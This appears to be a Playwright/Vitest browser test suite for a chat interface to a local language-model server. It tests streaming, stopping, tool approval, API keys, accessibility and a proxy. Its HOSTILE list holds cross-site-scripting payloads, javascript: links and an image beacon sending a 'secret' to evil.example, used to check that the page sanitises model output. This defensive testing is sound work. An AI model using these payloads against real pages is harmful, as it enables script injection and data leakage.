// The page in a real browser, in front of the real server: what people do with it, and what may go wrong meanwhile.
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { openBrowser } from '../support/browser.ts';
import { ADD, startToolServer, type ToolServer } from '../support/server-with-tools.ts';

const browser = await openBrowser();
if (browser === null)
  console.warn('The page is NOT tested: there is no browser (MOCHI_TEST_BROWSER names one).');

let server: ToolServer;
let context: BrowserContext;
let page: Page;
/** What the page complained of: it has no reason to. */
const complaints: string[] = [];
/** Of these it has one: what the browser says of a refusal or a server that is away. */
let expected = /^$/;
/** Addresses of other hosts that it asked. */
const foreign: string[] = [];

beforeAll(async () => {
  server = await startToolServer([ADD], { ollama: { programs: {} } });
});

afterAll(async () => {
  await server.close();
  await browser?.close();
});

async function open(
  sessionId: string | null = null,
  { address = server.url, ...options }: Parameters<typeof newContext>[0] & { readonly address?: string } = {},
) {
  context = await newContext(options);
  page = await context.newPage();
  page.setDefaultTimeout(10_000);
  page.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  page.on('dialog', (dialog) => {
    complaints.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (protocol.startsWith('http') && host !== new URL(address).host) foreign.push(request.url());
  });
  await page.goto(`${address}/${sessionId === null ? '' : `#/s/${sessionId}`}`);
  await composer().waitFor();
}

function newContext(options: NonNullable<Parameters<NonNullable<typeof browser>['newContext']>[0]>) {
  if (browser === null) throw new Error('There is no browser.');
  return browser.newContext(options);
}

afterEach(async () => {
  await context?.close();
  expect(complaints.splice(0).filter((text) => !expected.test(text))).toEqual([]);
  expected = /^$/;
  expect(foreign.splice(0)).toEqual([]);
});

const composer = () => page.getByRole('textbox', { name: 'Write a message' });
const answers = () => page.locator('.row.answer .markdown');
const said = () => page.locator('.row.user .said');
const stop = () => page.getByRole('button', { name: 'Stop' });

async function say(text: string) {
  await composer().fill(text);
  await composer().press('Enter');
}

const textsOf = async (sessionId: string): Promise<[string, string][]> => {
  const messages = await server.messages(sessionId);
  return messages.map(({ role, content }) => [role, content]);
};

describe.skipIf(browser === null)('the page', () => {
  it('begins a conversation with the first message, and the address names it', async () => {
    await open();
    await say('What is the capital of France?');
    await expect.poll(() => answers().allInnerTexts()).toEqual(['The capital of France is Paris.']);
    expect(page.url()).toMatch(/#\/s\/[0-9a-f]{10}$/);
    await expect.poll(() => page.locator('.sidebar .list a').count()).toBeGreaterThan(0);
    expect(await composer().inputValue()).toBe('');
  });

  it('begins one conversation, however often Enter is pressed while it begins', async () => {
    await open();
    await page.route('**/api/v1/sessions', async (route) => {
      if (route.request().method() === 'POST') await new Promise((resolve) => setTimeout(resolve, 300));
      await route.continue();
    });
    const count = async () => (await server.get('/sessions?limit=1000')).body.sessions.length;
    const before = await count();
    await composer().fill('Once, please.');
    await composer().press('Enter');
    await composer().press('Enter');
    await expect.poll(() => answers().count()).toBe(1);
    expect([await count(), await said().allInnerTexts()]).toEqual([before + 1, ['Once, please.']]);
  });

  it('shows the same answer after a reload in its middle, and one message', async () => {
    const id = await server.createSession({ model: 'slow' });
    await open(id);
    await say('Count.');
    await page.getByText('t0 t1').waitFor();
    await page.reload();
    const whole = Array.from({ length: 20 }, (_, at) => `t${at}`).join(' ');
    await expect.poll(() => answers().allInnerTexts(), { timeout: 10_000 }).toEqual([whole]);
    await stop().waitFor({ state: 'detached' });
    expect(await said().allInnerTexts()).toEqual(['Count.']);
    expect(await textsOf(id)).toEqual([
      ['user', 'Count.'],
      ['assistant', `${whole} `],
    ]);
  });

  it('stops when it is told to, keeps the part, and goes on from it', async () => {
    const id = await server.createSession({ model: 'slow' });
    await open(id);
    await say('Count.');
    await page.getByText('t0 t1').waitFor();
    await stop().click();
    await page.getByText('Not finished').waitFor();
    const part = (await textsOf(id))[1]?.[1] ?? '';
    expect(part).toMatch(/^t0 t1/);
    expect(await answers().allInnerTexts()).toEqual([part.trim()]);
    await page.getByRole('button', { name: 'Continue' }).click();
    await stop().waitFor();
    await stop().waitFor({ state: 'detached' });
    expect(await answers().count()).toBe(2);
  });

  it('says what went wrong, and can answer again', async () => {
    const id = await server.createSession({ model: 'mid-error' });
    await open(id);
    await say('Fail.');
    await page.getByRole('alert').filter({ hasText: 'unexpected EOF' }).waitFor();
    await page.getByText('Partial answer').waitFor();
  });

  it('keeps a draft over a reload and a look at another conversation', async () => {
    const [one, other] = [await server.createSession(), await server.createSession()];
    await open(one);
    await composer().fill('half a tho');
    await page.goto(`${server.url}/#/s/${other}`);
    await expect.poll(() => composer().inputValue()).toBe('');
    await composer().fill('for the other');
    await page.reload();
    await expect.poll(() => composer().inputValue()).toBe('for the other');
    await page.goto(`${server.url}/#/s/${one}`);
    await expect.poll(() => composer().inputValue()).toBe('half a tho');
  });

  it('sends nothing while an input method chooses a word', async () => {
    const id = await server.createSession();
    await open(id);
    await composer().focus();
    const devtools = await context.newCDPSession(page);
    await devtools.send('Input.imeSetComposition', { text: 'にほん', selectionStart: 3, selectionEnd: 3 });
    await composer().dispatchEvent('keydown', { key: 'Enter', keyCode: 229, isComposing: true });
    await devtools.send('Input.insertText', { text: '日本' });
    expect(await composer().inputValue()).toBe('日本');
    expect(await textsOf(id)).toEqual([]);
  });

  it('follows the text only where it was left at the end', async () => {
    const id = await server.createSession({ model: 'paced' });
    await open(id, { viewport: { width: 600, height: 320 } });
    await say('A question with\n'.repeat(30));
    await page.getByText('t0 t1').waitFor();
    const scroller = page.locator('.scroller');
    const fromEnd = () =>
      scroller.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight);
    await expect.poll(fromEnd).toBeLessThanOrEqual(8);
    await scroller.hover();
    await page.mouse.wheel(0, -120);
    await page.getByRole('button', { name: 'New text below' }).waitFor();
    const top = () => scroller.evaluate((element) => element.scrollTop);
    const before = await top();
    const length = () => answers().last().innerText();
    const seen = (await length()).length;
    await expect.poll(async () => (await length()).length).toBeGreaterThan(seen + 40);
    expect(await top()).toBe(before);
    await page.getByRole('button', { name: 'New text below' }).click();
    await expect.poll(fromEnd).toBeLessThanOrEqual(8);
  });

  it('shows the receipt of an answer as the server has it', async () => {
    const id = await server.createSession();
    await open(id);
    await say('Hello');
    await answers().first().waitFor();
    await stop().waitFor({ state: 'detached' });
    const { body } = await server.get(`/sessions/${id}/status`);
    const receipt = body.context;
    await page.locator('.row.answer').getByRole('button', { name: 'What the model was sent' }).click();
    const shown = await page.locator('dl.receipt').innerText();
    expect(shown).toContain(`${new Intl.NumberFormat('en-US').format(receipt.window)} tokens`);
    expect(shown).toContain(`${receipt.prompt_tokens} tokens`);
    expect(shown).toContain('1 message');
  });

  it('asks anew beside what was said, and goes back and forth between both', async () => {
    const id = await server.createSession();
    await open(id);
    await say('First');
    await stop().waitFor({ state: 'detached' });
    await said().hover();
    await page.locator('.row.user').getByRole('button', { name: 'Edit' }).click();
    await page.getByRole('textbox', { name: 'Edit' }).fill('Second');
    await page.getByRole('button', { name: 'Send edited' }).click();
    await expect.poll(() => said().allInnerTexts()).toEqual(['Second']);
    await page.locator('.row.user').getByText('2 / 2').waitFor();
    await expect.poll(() => answers().count()).toBe(1);
    await page.locator('.row.answer').getByRole('button', { name: 'Answer again' }).click();
    await page.locator('.row.answer').getByText('2 / 2').waitFor();
    await page.locator('.row.user').getByRole('button', { name: 'Earlier version' }).click();
    await expect.poll(() => said().allInnerTexts()).toEqual(['First']);
    const { body } = await server.get(`/sessions/${id}/tree`);
    expect(body.messages.map(({ role }: { role: string }) => role).sort()).toEqual([
      'assistant',
      'assistant',
      'assistant',
      'user',
      'user',
    ]);
  });

  it('shows in one tab what is done in another', async () => {
    const id = await server.createSession();
    await open(id);
    const other = await context.newPage();
    await other.goto(`${server.url}/#/s/${id}`);
    await other.getByRole('textbox', { name: 'Write a message' }).fill('From over there');
    await other.keyboard.press('Enter');
    await expect.poll(() => said().allInnerTexts()).toEqual(['From over there']);
    await expect.poll(() => answers().count()).toBe(1);
    await server.request('PATCH', `/sessions/${id}`, { title: 'Renamed elsewhere' });
    await page.locator('.sidebar').getByText('Renamed elsewhere').waitFor();
  });

  it('asks before a tool runs, once, and shows what came of it', async () => {
    const id = await server.toolSession(['add_numbers'], {
      model: 'early-tool',
      tool_settings: { execution_policy: 'always_confirm' },
    });
    await open(id);
    await say('Add.');
    await page.getByText('May this run?').waitFor();
    await expect.poll(() => page.title()).toMatch(/^\(1\)/);
    expect(await page.locator('details.tool').innerText()).toMatch(/add_numbers\s+waits/);
    await page.reload();
    await page.getByRole('button', { name: 'Approve once' }).click();
    await page.getByText('The tool answered:').waitFor();
    await page.setViewportSize({ width: 390, height: 700 });
    const overflow =
      '[...document.querySelectorAll(".head, .foot, .scroller")].filter((e) => e.scrollWidth > e.clientWidth || e.getBoundingClientRect().right > innerWidth).length';
    expect(await page.evaluate(overflow)).toBe(0);
    await page.setViewportSize({ width: 1280, height: 720 });
    await page.locator('details.tool summary').click();
    expect(await page.locator('details.tool').innerText()).toMatch(/add_numbers\s+done/);
    expect(await page.getByText('May this run?').count()).toBe(0);
  });

  it('takes a no with its reason to the model', async () => {
    const id = await server.toolSession(['add_numbers'], {
      model: 'early-tool',
      tool_settings: { execution_policy: 'always_confirm' },
    });
    await open(id);
    await say('Add.');
    await page.getByRole('button', { name: 'Deny' }).click();
    await page.getByLabel('Why not?').fill('Too many numbers');
    await page.getByRole('button', { name: 'Deny' }).click();
    await answers().filter({ hasText: 'was denied by user: Too many numbers' }).waitFor();
  });

  it('asks for the key of a server that wants one, and goes on', async () => {
    await server.restart({ apiKeys: ['a-key-of-sixteen-characters'] });
    expected = /401|CONNECTION_REFUSED/;
    try {
      await open();
      await page.getByLabel('API key').fill('wrong');
      await page.getByRole('button', { name: 'Open' }).click();
      await page.getByText('This key is not accepted.').waitFor();
      await page.getByLabel('API key').fill('a-key-of-sixteen-characters');
      await page.getByRole('button', { name: 'Open' }).click();
      await page.getByLabel('API key').waitFor({ state: 'detached' });
      await say('Hello');
      await expect.poll(() => answers().allInnerTexts()).toEqual(['The capital of France is Paris.']);
      expect(page.url()).not.toContain('sixteen');
    } finally {
      await context.close();
      await server.restart({ apiKeys: [] });
    }
  });

  it('draws whatever a model writes, and runs, loads and follows none of it', async () => {
    const id = await importAnswer(HOSTILE.join('\n\n'));
    await open(id);
    await page.getByText('the end of it').waitFor();
    const found = await page.locator('.markdown').evaluate((markdown) => ({
      elements: [...markdown.querySelectorAll('script,iframe,object,embed,img,form,style,link')].map(
        ({ tagName }) => tagName,
      ),
      handlers: [...markdown.querySelectorAll('*')].flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
      ),
      links: [...markdown.querySelectorAll('a')].map(({ protocol }) => protocol),
    }));
    expect(found.elements).toEqual([]);
    expect(found.handlers).toEqual([]);
    expect(new Set(found.links)).toEqual(new Set(['http:', 'https:', 'mailto:']));
  });

  it('draws what Markdown can say', async () => {
    const id = await importAnswer(EVERYTHING);
    await open(id);
    await page.locator('.markdown .code').waitFor();
    const shown = await page.locator('.markdown').evaluate((markdown) => ({
      table: markdown.querySelectorAll('td').length,
      formulas: markdown.querySelectorAll('.formula').length,
      strong: [...markdown.querySelectorAll('strong')].map(({ textContent }) => textContent),
      code: markdown.querySelector('pre')?.textContent,
      headings: markdown.querySelectorAll('h3').length,
    }));
    expect(shown).toEqual({
      table: 2,
      formulas: 1,
      strong: ['bold', '重要（注）。'],
      code: 'x = 1\n',
      headings: 1,
    });
  });

  it('is read and used without a mouse, in both themes, on a phone and on a desk', async () => {
    const id = await importAnswer(EVERYTHING);
    await open(id);
    await page.locator('.markdown .code').waitFor();
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      for (const width of [390, 820, 1400]) {
        await page.setViewportSize({ width, height: 800 });
        expect(await faults(), `${colorScheme} ${width}`).toEqual([]);
        expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(
          width,
        );
      }
    }
    await page.keyboard.press('Control+k');
    await page.getByRole('searchbox').fill('seven');
    await page.getByRole('link', { name: /seven/ }).first().waitFor();
    expect(await faults()).toEqual([]);
    await page.keyboard.press('Escape');
    await page.getByRole('searchbox').waitFor({ state: 'detached' });
    await page.keyboard.press('Control+Shift+o');
    await page.getByText('What is on your mind?').waitFor();
    expect(await faults()).toEqual([]);
  });

  it('copies where the browser has no clipboard for pages without TLS', async () => {
    await server.restart({ allowedHosts: ['lan.test'] });
    // Without TLS the browser has no use for it, and says so.
    expected = /Opener-Policy/;
    try {
      const id = await importAnswer('Copy **this**.');
      await open(id, { address: server.url.replace('127.0.0.1', 'lan.test') });
      expect(await page.evaluate('isSecureContext')).toBe(false);
      await page.locator('.row.answer').getByRole('button', { name: 'Copy' }).click();
      await page.getByText('Copied').waitFor();
      await composer().focus();
      await page.keyboard.press('Control+v');
      expect(await composer().inputValue()).toBe('Copy **this**.');
      await say('Hello');
      await expect.poll(() => answers().count()).toBe(2);
    } finally {
      await context.close();
      await server.restart({ allowedHosts: [] });
    }
  });

  it('works behind a proxy that puts it under a path', async () => {
    const proxy = createServer(({ url = '/', headers }, answer) => {
      const pass = async () => {
        const got = await fetch(server.url + url.replace(/^\/chat/, ''), {
          headers: { accept: headers.accept ?? '*/*' },
        });
        const kept = [...got.headers].filter(([name]) => !/^content-(encoding|length)$/.test(name));
        answer.writeHead(got.status, Object.fromEntries(kept));
        answer.end(Buffer.from(await got.arrayBuffer()));
      };
      void pass();
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const { port } = proxy.address() as AddressInfo;
    try {
      const id = await importAnswer('Under a path.');
      await open(id, { address: `http://127.0.0.1:${port}/chat` });
      await page.getByText('Under a path.').waitFor();
    } finally {
      await context.close();
      proxy.close();
    }
  });
});

let imported = 0;

/** A session with one answer. @returns its id */
async function importAnswer(content: string): Promise<string> {
  const file = {
    metadata: { model: 'llama3.2:latest', title: 'Imported' },
    messages: [
      // Another one each time: what is there already is not imported.
      { role: 'user', content: `Show me number ${(imported += 1)}.`, message_id: 'aa00000001' },
      { role: 'assistant', content, model: 'llama3.2:latest', message_id: 'aa00000002' },
    ],
  };
  const { body } = await server.post('/sessions/import', file);
  return body.imported[0].session_id;
}

const AXE = readFileSync(fileURLToPath(import.meta.resolve('axe-core/axe.min.js')), 'utf8');

/** What stands in the way of people who see, hear or point otherwise (WCAG 2.2 AA). */
async function faults(): Promise<string[]> {
  await page.evaluate(AXE);
  return page.evaluate(async () => {
    const { axe } = globalThis as any;
    const { violations } = await axe.run({ runOnly: ['wcag2a', 'wcag2aa', 'wcag21aa', 'wcag22aa'] });
    return violations.map(({ id, nodes }: any) => `${id}: ${nodes.map(({ html }: any) => html).join(' ')}`);
  });
}

const EVERYTHING = `# Title

Some **bold** and $x^2$, for $5 to $10, **重要（注）。**次 and seven.

| a | b |
|---|---|
| 1 | 2 |

\`\`\`python
x = 1
\`\`\`
`;

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>)',
  '[d](vbscript:x) [e](//evil.example/x) [f](https://evil.example) <https://evil.example/auto>',
  '[g](mailto:a@b.example) [http://bank.example](http://evil.example)',
  '![pixel](https://evil.example/leak.png?q=secret) ![x](javascript:alert(1))',
  '<svg onload=alert(1)><style>*{display:none}</style>',
  '$\\href{javascript:alert(1)}{x}$ and $\\url{javascript:alert(1)}$',
  '```html\n<script>alert(1)</script>\n```',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '<a href="https://evil.example" onclick="alert(1)">x</a>',
  'the end of it',
];
